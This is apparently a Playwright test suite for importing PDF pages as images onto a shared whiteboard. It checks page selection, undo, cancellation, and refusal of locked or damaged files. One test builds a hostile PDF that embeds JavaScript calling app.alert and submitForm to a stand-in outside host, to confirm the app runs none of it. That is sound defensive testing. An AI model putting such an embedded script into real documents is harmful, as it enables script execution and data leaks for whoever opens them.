import { expect, type Page } from '@playwright/test'
import { createBoard, open } from './board.ts'
import { type GivenFile, give, images, uploaded } from './given-files.ts'
import { test } from './journey.ts'
import { pdf } from './pdf-file.ts'
import { TestServer } from './server.ts'

let server: TestServer
test.beforeAll(async () => {
  server = await TestServer.start()
})
test.afterAll(() => server.dispose())

const dialog = (page: Page) => page.getByRole('dialog', { name: 'Add pages of a PDF' })

test('chosen pages of a dropped PDF become images side by side, for others too, and one undo takes them back', async ({
  browser,
}) => {
  const board = await createBoard(server)
  const page = await open(browser, server, board)
  const broken: string[] = []
  page.on('console', (message) => message.text().includes('Content Security Policy') && broken.push(message.text()))
  const asked: string[] = []
  page.context().on('request', (request) => asked.push(new URL(request.url()).pathname))
  await give(page, 'drop', [pdf('Report.pdf', 5)])
  await expect(dialog(page).getByText('Report.pdf')).toBeVisible()
  await expect(dialog(page).getByText('5 pages', { exact: true })).toBeVisible()
  await dialog(page).getByRole('textbox', { name: 'Pages' }).fill('2-3, 5')
  await dialog(page).getByRole('button', { name: 'Add 3 pages' }).click()
  await expect(dialog(page)).toBeHidden()
  const added = await images(page)
  expect(added.map(({ at, name, alt }) => [at.w, at.h, at.x - (added[0]?.at.x ?? 0), name, alt])).toEqual([
    [560, 793, 0, 'Report.pdf, page 2', 'Report.pdf, page 2'],
    [560, 793, 584, 'Report.pdf, page 3', 'Report.pdf, page 3'],
    [560, 793, 1168, 'Report.pdf, page 5', 'Report.pdf, page 5'],
  ])
  expect(added.map(({ size }) => size)).toEqual([
    [1120, 1587],
    [1120, 1587],
    [1120, 1587],
  ])
  const loaded = asked.flatMap((path) => /\/pdfjs-[^/]+(\/.*)/.exec(path)?.[1] ?? [])
  expect([...new Set(loaded)]).toEqual(['/standard_fonts/LiberationSans-Regular.ttf'])
  await uploaded(page)
  const other = await open(browser, server, board)
  expect(await images(other)).toHaveLength(3)
  await page.keyboard.press('Control+z')
  await expect.poll(() => images(page)).toEqual([])
  expect(broken).toEqual([])
})

/** The colours of an image at points, in fractions of its sides. */
function colorsIn(page: Page, points: readonly (readonly [x: number, y: number])[]) {
  return page.evaluate((points) => {
    const image = inkbridge.board.shapes().find(({ kind }) => kind === 'image')
    const canvas = document.querySelector('canvas')
    if (!image || !canvas) return []
    const { x, y, zoom } = inkbridge.editor.camera
    const ratio = canvas.width / canvas.clientWidth
    return points.map(([across, down]) => {
      const [left, top] = [(image.at.x + image.at.w * across - x) * zoom, (image.at.y + image.at.h * down - y) * zoom]
      const pixel = canvas.getContext('2d')?.getImageData(left * ratio, top * ratio, 1, 1)
      return [...(pixel?.data ?? [])].slice(0, 3)
    })
  }, points)
}

test('a page looks as in the file', async ({ browser }) => {
  const page = await open(browser, server, await createBoard(server))
  await give(page, 'paste', [pdf('One.pdf', 1)])
  await dialog(page).getByRole('button', { name: 'Add one page' }).click()
  // The margin, the stem of the figure 1, and the yellow half.
  const points = [
    [0.1, 0.1],
    [0.5, 0.36],
    [0.1, 0.9],
  ] as const
  await expect
    .poll(() => colorsIn(page, points))
    .toEqual([
      [255, 255, 255],
      [0, 0, 0],
      [255, 204, 0],
    ])
})

test('closing the dialog while pages are drawn leaves nothing on the board, nor anything to upload', async ({
  browser,
}) => {
  const page = await open(browser, server, await createBoard(server))
  await give(page, 'drop', [pdf('Long.pdf', 100)])
  await dialog(page).getByRole('button', { name: 'Add 100 pages' }).click()
  await expect(dialog(page).getByText(/Adding page \d\d of 100/)).toBeVisible()
  await dialog(page).getByRole('button', { name: 'Cancel' }).click()
  await expect(dialog(page)).toBeHidden()
  await uploaded(page)
  expect(await images(page)).toEqual([])
})

test('several files are asked for one after the other, and a list that is not one of their pages adds nothing', async ({
  browser,
}) => {
  const page = await open(browser, server, await createBoard(server))
  await give(page, 'drop', [pdf('One.pdf', 1), pdf('Two.pdf', 2)])
  await expect(dialog(page).getByText('One.pdf')).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(dialog(page).getByText('Two.pdf')).toBeVisible()
  await dialog(page).getByRole('textbox', { name: 'Pages' }).fill('1-3')
  await expect(dialog(page).getByText('Write the numbers of pages from 1 to 2, such as 1-3, 7.')).toBeVisible()
  await expect(dialog(page).getByRole('button', { name: /^Add/ })).toBeDisabled()
  await dialog(page).getByRole('textbox', { name: 'Pages' }).fill('2')
  await page.keyboard.press('Enter')
  await expect.poll(async () => (await images(page)).map(({ name }) => name)).toEqual(['Two.pdf, page 2'])
})

const locked = `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${'00'.repeat(32)}> /U <${'00'.repeat(32)}> /P -4 >> /ID [<00> <00>]`
const refused: readonly (readonly [what: string, file: GivenFile, sentence: RegExp])[] = [
  [
    'a protected PDF',
    pdf('Secret.pdf', 1, { trailer: locked }),
    /^This PDF is protected with a password\. Nothing was added/,
  ],
  [
    'a damaged PDF',
    { ...pdf('Half.pdf', 1), bytes: Buffer.from('%PDF-1.7\nnothing of a PDF') },
    /^This PDF is damaged or incomplete\. Nothing was added/,
  ],
]

for (const [what, file, sentence] of refused)
  test(`${what} is refused with a sentence`, async ({ browser }) => {
    const page = await open(browser, server, await createBoard(server))
    await give(page, 'drop', [file])
    await expect(dialog(page).getByRole('alert')).toHaveText(sentence)
    expect(await images(page)).toEqual([])
  })

test('a hostile PDF runs nothing, asks nobody, and takes no more room than others', async ({ browser }) => {
  const page = await open(browser, server, await createBoard(server))
  const asked: string[] = []
  page.context().on('request', (request) => asked.push(new URL(request.url()).origin))
  await page.evaluate(() => Object.assign(globalThis, { alert: () => Object.assign(globalThis, { acted: true }) }))
  const script = '/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://elsewhere.example/"\\))'
  const catalogue = `/OpenAction << ${script} >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`
  await give(page, 'drop', [pdf('Hostile.pdf', 1, { catalogue, box: '0 0 1000000 500000' })])
  await dialog(page).getByRole('button', { name: 'Add one page' }).click()
  await expect
    .poll(async () => (await images(page)).map(({ at, size }) => [at.w, at.h, size]))
    .toEqual([[5000, 2500, [4096, 2048]]])
  expect(await page.evaluate(() => 'acted' in globalThis)).toBe(false)
  expect([...new Set(asked)]).toEqual([server.url])
})

test('a PDF opens beside the worker that draws the board, whose script is in the offline cache', async ({
  browser,
}) => {
  const page = await open(browser, server, await createBoard(server))
  await page.evaluate(() => navigator.serviceWorker.ready)
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null)
  // Enough to draw that the board starts its worker.
  await page.evaluate(() => {
    for (let index = 0; index < 1_500; index += 1) {
      const points = Array.from({ length: 40 }, (_, at) => ({
        x: (index % 50) * 40 + at * 3,
        y: Math.floor(index / 50) * 40 + 24 * Math.sin(at / 5 + index),
        ...{ pressure: null, time: at * 16 },
      }))
      const id = `s${index}` as never
      const style = { color: 'ink', width: 8 } as const
      inkbridge.board.apply([
        { type: 'ink-begin', id, style, pressure: false, quantum: 0.25, points },
        { type: 'ink-seal', id },
      ])
    }
  })
  await expect.poll(() => page.workers().length).toBe(1)
  await give(page, 'drop', [pdf('Beside.pdf', 1)])
  await dialog(page).getByRole('button', { name: 'Add one page' }).click()
  await expect.poll(async () => (await images(page)).map(({ name }) => name)).toEqual(['Beside.pdf, page 1'])
})
